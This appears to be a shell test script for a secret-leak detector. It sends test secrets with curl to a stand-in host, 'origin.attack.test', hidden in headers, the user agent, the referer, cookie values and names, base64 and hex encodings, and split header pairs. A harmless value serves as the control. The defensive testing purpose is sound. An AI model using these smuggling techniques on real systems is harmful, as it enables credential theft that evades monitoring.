# A secret to an allowed host in header values and names, cookies and the referer.
need curl
where="https://origin.attack.test:$PORT/"
for secret in harmless $secrets; do
	with=send && [ "$secret" = harmless ] && with=harmless
	$with "value $secret" -H "X-Note: $(text $secret)" "$where"
	$with "user agent $secret" -A "agent/1 ($(text $secret))" "$where"
	$with "referer $secret" -e "https://origin.attack.test/$(text $secret)" "$where"
	$with "cookie $secret" -b "theme=dark; note=$(text $secret)" "$where"
	$with "cookie name $secret" -b "$(text $secret)=1" "$where"
	$with "base64 $secret" -H "X-Note: $(text $secret | base64 -w0)" "$where"
	$with "hex $secret" -H "X-Note: $(text $secret | od -An -v -tx1 | tr -d ' \n')" "$where"
	$with "accept $secret" -H "Accept: text/html;note=\"$(text $secret)\"" "$where"
	$with "http 1 $secret" --http1.1 -H "X-Note: $(text $secret)" "$where"
	case $secret in
	shape-*) continue ;;
	esac
	$with "name $secret" -H "X-$(text $secret | tr -c 'A-Za-z0-9-' -): 1" "$where"
	$with "two halves $secret" -H "X-A: $(text $secret | cut -c-20)" -H "X-B: $(text $secret | cut -c21-)" "$where"
done
